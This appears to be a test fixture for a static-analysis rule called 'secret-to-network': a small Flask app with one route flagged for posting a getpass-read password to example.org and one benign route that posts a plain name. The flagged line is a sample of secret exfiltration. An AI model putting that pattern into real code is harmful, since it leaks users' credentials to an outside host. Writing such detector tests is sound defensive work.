import getpass

import requests
from flask import Flask, request

app = Flask(__name__)


@app.route("/0", methods=["GET", "POST"])
def view():
    # ruleid: secret-to-network
    requests.post("http://example.org/", data={"password": getpass.getpass()}, timeout=5)
    return {"done": True}


@app.route("/1", methods=["GET", "POST"])
def view1():
    # ok: secret-to-network
    requests.post("http://example.org/", data={"name": "x"}, timeout=5)
    return {"done": True}
